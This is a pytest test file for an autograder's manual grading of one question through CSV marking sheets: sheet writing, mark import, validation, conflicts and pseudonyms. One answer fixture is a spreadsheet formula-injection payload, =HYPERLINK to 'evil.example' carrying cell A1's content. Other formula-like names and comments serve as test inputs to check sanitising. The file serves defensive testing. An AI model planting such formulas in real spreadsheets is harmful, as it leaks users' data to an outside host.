"""Manual grading of one question for the whole class: sheets are written, filled in, and imported."""

import csv
import io
import json
import random
import re
from dataclasses import replace
from types import SimpleNamespace

import pytest
from command import autograder
from graded_class import (
    EVIL,
    LAB,
    by_hand,
    came_from,
    enrol,
    fill,
    results,
    row,
    table,
    well_formed,
    with_policy,
)
from hostile_class import PIXEL
from markupsafe import Markup
from nbgrader.api import Gradebook
from our_course import COURSE, Silent, lab

from autograder.core.errors import AutograderError, UsageError
from autograder.core.results import Verdict
from autograder.gradebook.classroom import Classroom
from autograder.gradebook.regrade_requests import RegradeRequest
from autograder.grading.worker import WorkerFailed
from autograder.reports import manual_marks
from autograder.reports.class_page import write_report
from autograder.reports.feedback_pages import write_feedback_pages
from autograder.reports.manual_marks import (
    ManualMark,
    SheetError,
    StudentAnswer,
    _manual_mark,
    group_answers,
    import_sheets,
    read_question_marks,
    write_answers_page_and_marking_sheet,
)

pytestmark = pytest.mark.filterwarnings("ignore")

QUESTION = "explain-flat"  # three points
ANSWERS = (
    "The weights are nearly uniform, since unit vectors have small dot products.",
    "The  weights are nearly uniform,\nsince unit vectors have small dot products.",  # the same but for blanks
    "The weights are almost uniform, since unit vectors have small dot products.",  # nearly the same
    "Softmax divides by the sum, so it has to be flat.",
    '=HYPERLINK("http://evil.example/?"&A1, "my answer")',
    f"It is flat because {EVIL} $x^2$.",
)


def answers_of_sixty_students():
    """Return sixty answers: five texts ten times each, and ten different ones."""
    individual_answers = [
        "".join(random.Random(n).choices("abcdefghij klmnop", k=80)) for n in range(10)
    ]
    answers = [ANSWERS[n % 5] for n in range(50)] + individual_answers[:9] + [ANSWERS[5]]
    return {f"s{n:02}": answer for n, answer in enumerate(answers)}


def test_the_sheet_tells_which_answers_are_similar(classroom, prepared):
    texts = {"ada": ANSWERS[0], "bo": ANSWERS[1], "cy": ANSWERS[2], "di": ANSWERS[3]}
    fill(
        classroom,
        {who: results(who, answer=answer) for who, answer in texts.items()},
        gradebook=prepared,
    )
    rows, _ = read_rows(write_sheet(classroom))
    assert {who: row["alike"] for who, row in rows.items()} == {
        "ada": "1: first",
        "bo": "1: the same",
        "cy": "1: nearly the same",
        "di": "",
    }


@pytest.fixture
def room(classroom, prepared):
    """Small class: two equal answers, a different one, and a submission without an answer."""
    texts = {"ada": ANSWERS[0], "bo": ANSWERS[0], "cy": ANSWERS[3]}
    submissions = {student: results(student, answer=answer) for student, answer in texts.items()}
    submissions["di"] = replace(results("di"), untouched=(QUESTION,))
    fill(classroom, submissions, gradebook=prepared)
    enrol(classroom, "Name,Login\nAda Lovelace,ada\nBo Li,bo\nCy Twombly,cy\nDi Prima,di\n")
    return classroom


def write_sheet(room, **options):
    """Write the question's sheet, and return its path."""
    question = read_question_marks(room, lab(LAB), QUESTION, **options)
    write_answers_page_and_marking_sheet(question, workers=1)
    return question.sheet


def read_rows(path):
    """Return a sheet's rows by student, and the rows above the headings."""
    lines = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    head = next(i for i, line in enumerate(lines) if "key" in line)
    return {
        line[1]: dict(zip(lines[head], line, strict=True)) for line in lines[head + 1 :]
    }, lines[:head]


def fill_sheet(path, marks, target=None, delimiter=",", encoding="utf-8", end="\n", sort_rows=None):
    """Save the sheet with marks {student: (points, comment)}, as a spreadsheet program does."""
    rows, top = read_rows(path)
    for student, cells in marks.items():
        rows[student].update(zip(("points", "comment"), cells))
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter, lineterminator=end)
    writer.writerows([*top, list(next(iter(rows.values())))])
    lines = list(rows.values())
    writer.writerows(list(row.values()) for row in (sort_rows(lines) if sort_rows else lines))
    target = target or path.with_name("filled.csv")
    target.write_bytes(text.getvalue().encode(encoding))
    return target


def import_into(room, *sheets, name=QUESTION):
    return import_sheets(room, lab(LAB), name, sheets)


def read_manual_marks(room, name=QUESTION, lab_name=LAB):
    """Return all manual points and comments, as nbgrader's formgrader reads them."""
    marks = {}
    with Gradebook(room.db, COURSE.id) as book:
        for submission in book.assignment_submissions(lab_name):
            notebook = submission.notebooks[0]
            grade = next(g for g in notebook.grades if g.name in (name, f"test-{name}"))
            comment = next(c for c in notebook.comments if c.name == name)
            marks[submission.student.id] = (grade.manual_score, comment.manual_comment)
            assert not (grade.manual_score is not None and grade.needs_manual_grade)
    return marks


@pytest.mark.long
def test_sixty_answers_graded_in_a_spreadsheet(classroom, prepared):
    texts = answers_of_sixty_students()
    fill(
        classroom, {s: results(s, answer=answer) for s, answer in texts.items()}, gradebook=prepared
    )
    outcome = autograder("answers", LAB, QUESTION, "--classroom", classroom.root)
    assert outcome.returncode == 0, outcome.stderr
    assert "60 answers, 60 without a mark." in outcome.stderr
    path = classroom.root / "answers" / LAB / f"{QUESTION}.csv"
    assert outcome.stdout.split() == [str(path.with_suffix(".html")), str(path)]

    rows, top = read_rows(path)
    assert set(rows) == set(texts)
    assert (
        "3 points." in top[0][0]
        and lab(LAB).mark_schemes()[QUESTION][:40] in top[0][0]
        and top[1] == []
    )
    # Points by what was written, as a person would: the same for the same. Every second one gets a comment.
    worth = {
        ANSWERS[0]: "2,5",
        ANSWERS[1]: "2,5",
        ANSWERS[2]: "2",
        ANSWERS[3]: "1",
        ANSWERS[4]: "0",
        ANSWERS[5]: "3",
    }
    marks_given = {
        student: (
            worth.get(answer, "0,75"),
            f"Siehe Übung; {student}" if int(student[1:]) % 2 else "",
        )
        for student, answer in texts.items()
    }
    sheet = fill_sheet(
        path,
        marks_given,
        delimiter=";",
        encoding="utf-8-sig",
        end="\r\n",
        sort_rows=lambda rows: rows[::-1],
    )
    import_outcome = autograder(
        "answers", LAB, QUESTION, "--take", sheet, "--classroom", classroom.root
    )
    assert (import_outcome.returncode, import_outcome.stderr) == (0, "")
    assert (
        import_outcome.stdout
        == "60 marks and 30 comments taken in; 0 answers still await manual grading.\n"
    )

    expected = {
        student: (float(points.replace(",", ".")), comment or None)
        for student, (points, comment) in marks_given.items()
    }
    assert read_manual_marks(classroom) == expected
    pages = write_feedback_pages(classroom, labs=[lab(LAB)], progress=Silent())
    assert (pages.written_count, pages.failures) == (60, [])
    write_report(classroom)
    marks = {
        row["student_id"]: row
        for row in table((classroom.report / "grades.csv").read_text("utf-8"))
    }
    for student, (points, comment) in expected.items():
        page = (classroom.feedback / student / LAB / f"{LAB}.html").read_text("utf-8")
        line = page[page.index('href="#at-explain-flat"') :].split("</li>")[0]
        assert "read by a person" in line and f"{points:g} of 3</span>" in line
        assert (f"Siehe Übung; {student}</blockquote>" in line) == bool(comment)
        # all right in what is judged, 10 points, and what the person gave
        assert (marks[student]["score"], marks[student]["state"]) == (str(10 + points), "complete")


def test_importing_a_sheet_again_changes_nothing_and_a_new_sheet_shows_the_marks(room):
    path = fill_sheet(
        write_sheet(room), {"Ada Lovelace": ("2", "Well said."), "Cy Twombly": ("0", "")}
    )
    assert (
        import_into(room, path)
        == "2 marks and 1 comment taken in; 1 answer still awaits manual grading."
    )
    assert (
        import_into(room, path)
        == "0 marks and 0 comments taken in; 1 answer still awaits manual grading."
    )
    rows, _ = read_rows(write_sheet(room))
    assert (rows["Ada Lovelace"]["points"], rows["Ada Lovelace"]["comment"]) == ("2", "Well said.")
    assert (rows["Cy Twombly"]["points"], rows["Bo Li"]["points"]) == ("0", "")
    page = (path.parent / f"{QUESTION}.html").read_text("utf-8")
    assert "1 without a mark" in page and "2 of 3" in page and "Well said." in page


def test_an_empty_cell_leaves_what_is_there_and_a_comment_needs_no_points(room):
    by_hand(room, "ada", 1.5, "Half.")
    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("", "Better."), "Bo Li": ("", "Where?")})
    assert (
        import_into(room, path)
        == "0 marks and 2 comments taken in; 2 answers still await manual grading."
    )
    assert read_manual_marks(room)["ada"] == (1.5, "Better.") and read_manual_marks(room)["bo"] == (
        None,
        "Where?",
    )


@pytest.mark.parametrize(
    ("delimiter", "encoding", "end", "points"),
    [
        (",", "utf-8", "\n", "2.5"),
        (";", "utf-8-sig", "\r\n", "2,5"),
        ("\t", "utf-16", "\r\n", "2,50"),
        (";", "cp1252", "\r", " 2.5 "),
    ],
)
def test_a_sheet_may_be_saved_by_different_spreadsheet_programs(
    room, delimiter, encoding, end, points
):
    marks_given = {"Bo Li": (points, "Schön; oder, naïve\nzweite Zeile")}
    path = fill_sheet(
        write_sheet(room), marks_given, delimiter=delimiter, encoding=encoding, end=end
    )
    text = path.read_bytes().decode(encoding)
    path.write_bytes(f"sep={delimiter}{end}{text}".encode(encoding))  # as Excel likes it
    assert import_into(room, path).startswith("1 mark and 1 comment taken in")
    assert read_manual_marks(room)["bo"] == (2.5, "Schön; oder, naïve\nzweite Zeile")


def test_rows_may_be_missing_and_in_any_order_with_the_headings_among_them(room):
    path = fill_sheet(write_sheet(room), {"Bo Li": ("1", ""), "Cy Twombly": ("2", "")})
    lines = [line for line in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")) if line]
    other_lines = [line for line in lines if "Ada" not in "".join(line)]
    text = io.StringIO()
    csv.writer(text).writerows(sorted(other_lines, key=lambda line: line[-1]))
    path.write_text(text.getvalue(), "utf-8")
    assert (
        import_into(room, path)
        == "2 marks and 0 comments taken in; 1 answer still awaits manual grading."
    )


def submit_another_answer(room):
    """Replace Bo's answer after the sheet was written."""
    fill(room, {"bo": results("bo", answer="A new answer.")}, gradebook=room.root / "gradebook.db")


INVALID_ROWS = {
    "over": (("3.5", ""), "filled.csv, row {}: the points are 3.5, but the question is worth 3."),
    "below": (
        ("-1", ""),
        "filled.csv, row {}: the points are '-1', which is no number such as 2 or 2.5.",
    ),
    "a date": (("01. Feb", ""), "the points are '01. Feb', which is no number"),
    "words": (("two", ""), "the points are 'two', which is no number"),
    "not a number": (("nan", ""), "the points are 'nan', which is no number"),
    "a power": (("1e0", ""), "the points are '1e0', which is no number"),
    "long": (("1", "x" * 10_001), "the comment has 10,001 characters; at most 10,000 can be kept."),
}


@pytest.mark.parametrize("name", INVALID_ROWS)
def test_an_invalid_row_is_refused(room, name):
    cells, sentence = INVALID_ROWS[name]
    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", ""), "Bo Li": cells})
    number = 1 + next(
        i
        for i, line in enumerate(csv.reader(io.StringIO(path.read_text("utf-8"))))
        if "Bo Li" in line
    )
    with pytest.raises(SheetError) as error:
        import_into(room, path)
    assert str(error.value).startswith("Nothing was taken in.\n")
    assert sentence.format(number) in str(error.value)
    assert read_manual_marks(room) == dict.fromkeys(("ada", "bo", "cy", "di"), (None, None))


def test_all_invalid_rows_are_reported_at_once(room):
    path = fill_sheet(
        write_sheet(room), dict.fromkeys(("Ada Lovelace", "Bo Li", "Cy Twombly"), ("9", ""))
    )
    with pytest.raises(SheetError) as error:
        import_into(room, path)
    assert str(error.value).count("the points are 9, but the question is worth 3.") == 3


def test_unknown_keys_are_refused(room):
    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", "")})
    text = path.read_text("utf-8")
    for key, sentence in (
        ("", "it has points or a comment, but no key, so it is nobody's."),
        (
            "abcdefghij-abcdefghij-abcdefghij",
            f"its key belongs to no answer to {QUESTION} of {LAB}",
        ),
    ):
        path.write_text(
            re.sub(r"(Ada Lovelace.*),[a-p-]+$", rf"\1,{key}", text, flags=re.MULTILINE), "utf-8"
        )
        with pytest.raises(SheetError, match=re.escape(sentence)):
            import_into(room, path)


def test_the_sheet_of_another_question_gives_no_marks(room):
    path = write_sheet(room)
    fill_sheet(path, {"Ada Lovelace": ("1", "")}, target=path)
    with pytest.raises(
        SheetError, match="its key belongs to no answer to softmax of qkv-attention"
    ):
        import_into(room, path, name="softmax")


def test_columns_that_were_sorted_separately_are_refused(room):
    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", "")})
    text = path.read_text("utf-8").replace("Ada Lovelace", "Bo Li")
    path.write_text(text, "utf-8")
    with pytest.raises(
        SheetError,
        match="the key is Ada Lovelace's, but the row says 'Bo Li'; were some columns sorted",
    ):
        import_into(room, path)


def test_a_mark_belongs_to_the_answer_that_was_read(room):
    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")})
    submit_another_answer(room)
    with pytest.raises(
        SheetError, match="Bo Li has submitted another answer since this sheet was written"
    ):
        import_into(room, path)
    assert read_manual_marks(room)["ada"] == (None, None)
    new_sheet = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")})
    assert import_into(room, new_sheet).startswith("2 marks")


def test_two_people_grade_different_rows(room):
    path = write_sheet(room)
    first_sheet = fill_sheet(
        path, {"Ada Lovelace": ("1", "One.")}, target=path.with_name("one.csv")
    )
    second_sheet = fill_sheet(path, {"Bo Li": ("2", "Two.")}, target=path.with_name("two.csv"))
    assert (
        import_into(room, first_sheet, second_sheet)
        == "2 marks and 2 comments taken in; 1 answer still awaits manual grading."
    )
    third_sheet = fill_sheet(path, {"Cy Twombly": ("3", "")}, target=path.with_name("late.csv"))
    assert import_into(room, third_sheet).startswith(
        "1 mark"
    )  # by another hour: what it left empty stays
    assert read_manual_marks(room) == {
        "ada": (1.0, "One."),
        "bo": (2.0, "Two."),
        "cy": (3.0, None),
        "di": (None, None),
    }


def test_two_people_grade_the_same_answer(room):
    path = write_sheet(room)
    first_sheet = fill_sheet(
        path, {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")}, target=path.with_name("one.csv")
    )
    second_sheet = fill_sheet(
        path, {"Ada Lovelace": ("2", ""), "Bo Li": ("2", "")}, target=path.with_name("two.csv")
    )
    with pytest.raises(
        SheetError, match=r"two.csv, row \d: Ada Lovelace was given 1 point in one.csv, row \d\."
    ):
        import_into(room, first_sheet, second_sheet)
    assert read_manual_marks(room)["bo"] == (None, None)
    import_into(room, first_sheet)
    with pytest.raises(
        SheetError,
        match="Ada Lovelace was given 1 point in the gradebook since this sheet was written",
    ):
        import_into(room, second_sheet)


def test_the_formgrader_and_the_sheet_agree(room):
    path = write_sheet(room)
    by_hand(room, "ada", 2, "In the formgrader.")
    with pytest.raises(
        SheetError, match="Ada Lovelace was given 2 points and other words in the gradebook"
    ):
        import_into(room, fill_sheet(path, {"Ada Lovelace": ("1", "")}))
    assert import_into(room, fill_sheet(path, {"Bo Li": ("1", "")})).startswith("1 mark")
    assert read_manual_marks(room)["ada"] == (2.0, "In the formgrader.")
    assert read_rows(write_sheet(room))[0]["Ada Lovelace"]["points"] == "2"


def test_no_cell_is_a_formula_and_no_comment_gains_one(room):
    evil = {"ada": ANSWERS[4], "bo": "a line\n@SUM(1)\n+1;=2", "cy": EVIL}
    fill(
        room,
        {s: results(s, answer=a) for s, a in evil.items()},
        gradebook=room.root / "gradebook.db",
    )
    enrol(room, "Name,Login\n=1+1,ada\nBo Li,bo\nCy Twombly,cy\nDi Prima,di\n")
    by_hand(room, "bo", 1, "=2+2\n- and a list")
    path = write_sheet(room)
    for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
        for cell in line:
            for part in re.split(r"[\n;]", cell):
                assert not re.match(r"\s*[=+\-@]", part), part
    rows, _ = read_rows(path)
    assert rows["'=1+1"]["answer"].startswith("'=HYPERLINK")
    # A comment that was not touched stays as it was, to the line's end; a new one loses only our own quote.
    import_into(
        room, fill_sheet(path, {"'=1+1": ("1", "'=3+3"), "Bo Li": ("2", rows["Bo Li"]["comment"])})
    )
    assert read_manual_marks(room)["bo"] == (2.0, "=2+2\n- and a list")
    assert read_manual_marks(room)["ada"] == (1.0, "=3+3")
    page = path.with_suffix(".html").read_text("utf-8")
    assert "<script" not in page
    well_formed(page)


def test_similar_answers_stand_together():
    texts = {
        "a": ANSWERS[3],
        "b": ANSWERS[0],
        "c": ANSWERS[2],
        "d": ANSWERS[1],
        "e": "w - x",
        "f": "w + x",
        "g": "x",
    }
    groups = list(
        group_answers(
            [StudentAnswer(s, s, ManualMark(), s, source=text) for s, text in texts.items()]
        )
    )
    assert [
        (group.number, [[a.student for _, a in equal_answers] for equal_answers in group.wordings])
        for group in groups
    ] == [
        (1, [["b", "d"], ["c"]]),  # the same but for blanks; and nearly
        (2, [["f"], ["e"]]),  # a sign makes another answer: near, but never the same
        (0, [["a"]]),
        (0, [["g"]]),
    ]
    assert [
        n for group in groups for equal_answers in group.wordings for n, _ in equal_answers
    ] == [
        1,
        2,
        3,
        4,
        5,
        6,
        7,
    ]


def test_equal_answers_stand_in_the_order_of_the_names_that_are_shown():
    """In the order of the real names, an anonymous sheet would tell who is who."""
    names = {"ada": "student-9", "bo": "student-1", "cy": "student-5"}
    answers = [StudentAnswer(s, name, ManualMark(), "", source="same") for s, name in names.items()]
    (group,) = group_answers(answers)
    assert [answer.name for _, answer in group.wordings[0]] == [
        "student-1",
        "student-5",
        "student-9",
    ]


def test_pseudonyms(room):
    path = write_sheet(room, anonymous=True)
    page = path.with_suffix(".html").read_text("utf-8")
    sheet = path.read_text("utf-8-sig")
    for name in ("Ada", "Lovelace", "ada", "Bo Li"):
        assert not re.search(rf"\b{name}\b", page) and not re.search(rf"\b{name}\b", sheet)
    secret = dict(
        line.split(",")[::-1]
        for line in (room.root / "pseudonyms.csv").read_text().replace("'", "").split()[1:]
    )
    assert import_into(room, fill_sheet(path, {secret["bo"]: ("2", "")})).startswith("1 mark")
    assert read_manual_marks(room)["bo"] == (2.0, None)
    student_key = read_rows(path)[0][secret["bo"]]["key"].split("-")[0]
    assert student_key in student_keys(room)
    (room.root / "secret").write_text(
        "another"
    )  # without the secret of the class, a key tells nobody's name
    assert student_key not in student_keys(Classroom(room.root, COURSE))


def student_keys(room):
    """Return the parts of the keys that identify the students."""
    question = read_question_marks(room, lab(LAB), QUESTION)
    return {question.make_row_key(answer).split("-")[0] for answer in question.answers}


def test_a_sheet_with_marks_that_were_not_imported_is_kept(room):
    path = write_sheet(room)
    write_sheet(room)
    assert [p.name for p in sorted(path.parent.glob("*.csv"))] == [f"{QUESTION}.csv"]
    fill_sheet(path, {"Ada Lovelace": ("1", "")}, target=path)
    outcome = autograder("answers", LAB, QUESTION, "--classroom", room.root)
    old_sheet = path.with_name(f"{QUESTION}-earlier-1.csv")
    assert (
        f"The sheet that was there has marks that are not taken in; it is {old_sheet} now."
        in outcome.stderr
    )
    assert read_rows(path)[0]["Ada Lovelace"]["points"] == ""
    assert import_into(room, old_sheet).startswith("1 mark")


def test_an_exercise_can_be_graded_manually(room):
    """Manual grading of an exercise, such as for a regrade request."""
    question = read_question_marks(room, lab(LAB), "softmax")
    write_answers_page_and_marking_sheet(question, workers=1)
    rows, _ = read_rows(question.sheet)
    assert (
        "def softmax" in rows["Ada Lovelace"]["answer"] or "raise" in rows["Ada Lovelace"]["answer"]
    )
    sheet = fill_sheet(question.sheet, {"Ada Lovelace": ("1.5", "Half of it.")})
    assert import_into(room, sheet, name="softmax").startswith("1 mark and 1 comment taken in")
    assert read_manual_marks(room, "softmax")["ada"] == (1.5, "Half of it.")
    assert "(pass)" in question.page.read_text("utf-8")


def test_withdrawn_students_and_blank_answers_have_no_row(room):
    enrol(room, "Name,Login,Status\nAda,ada,\nBo,bo,withdrawn\nCy,cy,\nDi,di,\n")
    question = read_question_marks(room, lab(LAB), QUESTION)
    assert [answer.student for answer in question.answers] == [
        "ada",
        "cy",
    ] and question.blank_count == 1


@pytest.mark.parametrize("mark", [(0.0, None), (None, "Ask me.")])
def test_a_blank_answer_that_has_a_mark_has_a_row(room, mark):
    with Gradebook(room.db, COURSE.id) as book:
        notebook = book.find_submission(LAB, "di").notebooks[0]
        grade = next(g for g in notebook.grades if g.name == QUESTION)
        comment = next(c for c in notebook.comments if c.name == QUESTION)
        grade.manual_score, comment.manual_comment = mark
        book.db.commit()
    question = read_question_marks(room, lab(LAB), QUESTION)
    assert "di" in question.marks and question.blank_count == 0


def test_a_group_is_graded_once(room):
    for student in ("ada", "bo"):
        came_from(room, student, "Moodle", members=("ada", "bo"), sha256="x")
    assert import_into(room, fill_sheet(write_sheet(room), {"Bo Li": ("2", "Both.")})) == (
        "1 mark and 1 comment taken in; 1 answer still awaits manual grading."
    )
    assert read_manual_marks(room)["ada"] == (2.0, "Both.")


def test_files_that_are_no_sheets(room, tmp_path):
    for data, sentence in (
        (b"PK\x03\x04...", "is a spreadsheet program's own file. Save it as CSV"),
        (b"", "has no row with the headings"),
        (b"a,b\n1,2\n", "has no row with the headings"),
        (b"key,points,points\nx,1,2\n", "has the column 'points' twice"),
        (b"\x00\xff" * 1000, "has no row with the headings"),
    ):
        (tmp_path / "x.csv").write_bytes(data)
        with pytest.raises(SheetError, match=re.escape(sentence)):
            import_into(room, tmp_path / "x.csv")
    with pytest.raises(SheetError, match="cannot be read: No such file"):
        import_into(room, tmp_path / "nowhere.csv")
    with pytest.raises(SheetError, match="is not an ordinary file"):
        import_into(room, tmp_path)


def test_questions_that_cannot_be_graded(room, classroom):
    with pytest.raises(
        UsageError,
        match="has no question 'nothing'; its manually graded questions are explain-flat, and its exercises are",
    ):
        read_question_marks(room, lab(LAB), "nothing")
    with_policy(room, dropped=[QUESTION])
    with pytest.raises(AutograderError, match="explain-flat is dropped from qkv-attention"):
        read_question_marks(room, lab(LAB), QUESTION)


def test_no_gradebook(classroom):
    with pytest.raises(AutograderError, match="There is no gradebook yet"):
        read_question_marks(classroom, lab(LAB), QUESTION)


@pytest.mark.parametrize(("extra_credit", "points"), [({}, "2.5"), ({QUESTION: 0.5}, "2")])
def test_the_sheet_shows_a_mark_without_its_extra_credit(extra_credit, points):
    """The sheet's points are imported again, and extra credit is kept beside them."""
    mark = SimpleNamespace(
        scores={QUESTION: 2.5}, manually_graded={QUESTION}, extra_credit=extra_credit, comments={}
    )
    assert _manual_mark(mark, QUESTION).points == points
    mark.manually_graded = set()
    assert _manual_mark(mark, QUESTION).points == ""


def make_question(answers=(), points=3.0):
    """Return a question of a class without a gradebook."""
    room = SimpleNamespace(salt="secret", root=COURSE.root / "nowhere")
    return manual_marks.QuestionAnswers(room, lab(LAB), QUESTION, points, list(answers))


NO_MARK = ManualMark()


def make_answer(student, source="An answer.", mark=NO_MARK, **fields):
    return StudentAnswer(student, student.title(), mark, source, source, **fields)


@pytest.mark.parametrize(
    ("cell", "points"),
    [("", ""), ("' 2,50", "2.5"), ("\u00a02", "2"), (".5", "0.5"), ("2.", "2"), ("3.0", "3")],
)
def test_points_are_read_as_spreadsheets_write_them(cell, points):
    assert manual_marks._parse_points(cell, 3.0) == points


def test_a_name_and_a_key_are_read_as_spreadsheets_leave_them():
    assert manual_marks._comparable_name("'007 Ada") == manual_marks._comparable_name("7 ADA")
    assert manual_marks._split_key("'ABC-def-g") == ("abc", "def", "g")
    assert manual_marks._split_key("") == ("", "", "")


def test_a_comment_that_only_a_spreadsheet_changed_is_the_same():
    question = make_question()
    marks = [ManualMark("1", text) for text in ("Don't  do\nit.", "Dont do it.", "Do it.")]
    hashes = [question.hash_mark(mark) for mark in marks]
    assert hashes[0] == hashes[1] != hashes[2]
    assert manual_marks._parse_comment("'=3+3") == "=3+3"
    assert manual_marks._parse_comment("'tis") == "'tis"


def test_of_many_invalid_rows_the_first_are_named_and_the_others_counted(monkeypatch):
    answers = [make_answer(f"s{number}") for number in range(manual_marks.MAX_REPORTED_ROWS + 1)]
    question = make_question(answers)

    def read_rows_of(names):
        for name in names:
            answer = next(answer for answer in answers if answer.student == name)
            key = question.make_row_key(answer)
            yield manual_marks._SheetRow(f"x.csv, row {name}", answer.name, "9", "", key)

    monkeypatch.setattr(manual_marks, "_read_filled_in_rows", read_rows_of)
    for count, last in ((0, "row s11"), (1, "… and 1 row more.")):
        names = [answer.student for answer in answers[: manual_marks.MAX_REPORTED_ROWS + count]]
        with pytest.raises(SheetError) as error:
            manual_marks.merge_sheets(question, [names])
        lines = str(error.value).split("\n")
        assert len(lines) == 1 + manual_marks.MAX_REPORTED_ROWS + count and last in lines[-1]


def test_a_long_answer_is_cut_in_the_sheet_and_its_points_and_number_are_there():
    answer = make_answer(
        "ada", "x" * (manual_marks.MAX_CELL_CHARACTERS + 1), ManualMark("2", "So.")
    )
    row_of_ada = manual_marks._make_sheet_row(make_question(), 7, "1: first", answer)
    number, name, alike, points, of, comment, text, _ = row_of_ada
    assert (number, name, alike, points, of, comment) == (7, "Ada", "1: first", "2", "3", "So.")
    assert len(text) == manual_marks.MAX_CELL_CHARACTERS


def test_a_comment_is_limited_and_long_answers_are_compared_by_their_beginnings():
    longest = "x" * manual_marks.MAX_COMMENT_CHARACTERS
    assert manual_marks._parse_comment(longest) == longest
    with pytest.raises(ValueError, match="the comment has 10,001 characters; at most 10,000"):
        manual_marks._parse_comment(longest + "x")
    beginning = "x" * (manual_marks.MAX_COMPARED_CHARACTERS - 1)
    ngrams = manual_marks._make_character_ngrams
    assert ngrams(f"{beginning}y") != ngrams(beginning)
    assert ngrams(f"{beginning}xy") == ngrams(beginning)


def test_an_answer_is_read_and_rendered_within_a_time_limit(monkeypatch):
    def run_no_calls(function, calls, *, seconds, **options):
        assert seconds == manual_marks.MAX_ANSWER_SECONDS
        return [(0, '{"source": "A", "html": "<p>A</p>"}')]

    monkeypatch.setattr(manual_marks, "run_calls_in_workers", run_no_calls)
    question = make_question([make_answer("ada")])
    question.classroom.course = COURSE
    question.classroom.notebook_path = lambda student, lab_name: "ada.ipynb"
    (answer,) = manual_marks._answers_with_texts(question, 1)
    assert (answer.source, answer.html) == ("A", "<p>A</p>")


def test_a_verdict_is_that_of_an_exercise_with_its_mistake():
    def verdict_of(exercise, verdict, misconception=None):
        result = row(student="ada", exercise=exercise, verdict=verdict, misconception=misconception)
        return manual_marks._describe_verdict(lab(LAB), result)

    assert verdict_of("softmax", Verdict.WRONG, "wrong-axis") == "wrong: wrong axis"
    assert verdict_of("softmax", Verdict.PASS) == "pass"
    assert verdict_of(QUESTION, Verdict.MANUAL) == ""
    assert manual_marks._describe_verdict(lab(LAB), None) == ""


def test_pasted_pictures_are_named_in_the_sheet_and_make_answers_different(tmp_path):
    sources = []
    for picture in (PIXEL, PIXEL.replace("AAE", "AAI", 1), None):
        cell = {
            "cell_type": "markdown",
            "source": "See.",
            "metadata": {"nbgrader": {"grade_id": QUESTION}},
        }
        if picture:
            cell["attachments"] = {"a.png": {"image/png": picture}}
            cell["source"] = "See. ![](attachment:a.png)"
        path = tmp_path / "x.ipynb"
        path.write_text(json.dumps({"cells": [cell]}))
        text = manual_marks.read_answer_as_json(str(COURSE.root), LAB, QUESTION, str(path), False)
        sources.append(json.loads(text)["source"])
    assert sources[2] == "See." and len(set(sources)) == 3
    assert "[1 picture, " in sources[0] and sources[0].endswith(": see the page]")


def test_old_spreadsheets_and_too_large_files_are_no_sheets(tmp_path, monkeypatch):
    path = tmp_path / "x.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0...")
    with pytest.raises(SheetError, match="own file"):
        manual_marks._read_sheet_text(path)
    monkeypatch.setattr(manual_marks, "MAX_SHEET_BYTES", 3)
    path.write_bytes(b"key,")
    with pytest.raises(SheetError, match="is larger than 0 MB"):
        manual_marks._read_sheet_text(path)


def test_a_sheet_begins_with_a_mark_of_utf8_and_the_scheme_and_has_numbers():
    question = make_question([make_answer("ada"), make_answer("bo", "Quite another text.")])
    text = manual_marks._format_marking_sheet(question, list(group_answers(question.answers)))
    assert text.startswith("\ufeff") and "\r\n" in text
    lines = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert lines[0][0].startswith(f"{LAB}, {QUESTION}: 3 points. ") and lines[1] == []
    assert [line[0] for line in lines[2:]] == ["number", "1", "2"]


def test_the_page_of_answers_says_how_many_have_what():
    answers = [
        make_answer("ada", mark=ManualMark("2", "Fine."), html=Markup("<p>1</p>")),
        make_answer("bo", mark=ManualMark("1", "Less."), html=Markup("<p>1</p>"), verdict="pass"),
        make_answer("cy", "Something quite different is here.", html=Markup("<p>2</p>")),
    ]
    question = make_question(answers, points=1.0)
    question.blank_count = 2
    page = manual_marks._render_answers_page(question, list(group_answers(answers)))
    text = " ".join(re.sub(r"<[^>]+>", " ", page).split())
    assert "3 answers, 1 point each; 1 without a mark" in text
    assert "2 submissions left it as it was handed out: no answer, no points." in text
    assert "Group 1: 2 answers, the same" in text and "Each by itself 3 Cy" in text
    assert "1 Ada 2 of 1 2 Bo (pass) 1 of 1" in text
    assert "1: Fine. 2: Less." in text and "Marking scheme" in text and "The question" in text
    well_formed(page)


OLD = ManualMark("1", "Old words.")


@pytest.mark.parametrize(
    ("mark", "points", "comment", "expected"),
    [
        (NO_MARK, "2", "", ManualMark("2", "")),
        (NO_MARK, "", "Well.", ManualMark("", "Well.")),
        (OLD, "1", "Old words.", None),
        (OLD, "1", "", None),
        (OLD, "", "", None),
        (OLD, "2", "", ManualMark("2", "Old words.")),
        (OLD, "", "New words.", ManualMark("1", "New words.")),
        (OLD, "2", "'Old  words.", ManualMark("2", "Old words.")),
        (OLD, "0", "New words.", ManualMark("0", "New words.")),
    ],
)
def test_a_row_changes_what_it_gives_and_nothing_else(mark, points, comment, expected):
    ada, bo = make_answer("ada", mark=mark), make_answer("bo", mark=mark)
    question = make_question([ada, bo])
    merge = manual_marks._SheetMerge(question)
    key = question.make_row_key(ada)
    merge.apply_row(manual_marks._SheetRow("sheet, row 4", "Ada", points, comment, key))
    assert merge.new_marks() == ({} if expected is None else {"ada": expected})


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"key": ""}, "it has points or a comment, but no key, so it is nobody's."),
        ({"key": "xy-xy-xy"}, "its key belongs to no answer to explain-flat of qkv-attention"),
        ({"student": "Bo"}, "the key is Ada's, but the row says 'Bo'; were some columns sorted"),
        ({"digest": "another answer"}, "Ada has submitted another answer since this sheet was"),
        ({"mark": ManualMark("3", "")}, "Ada was given 1 point and other words in the gradebook"),
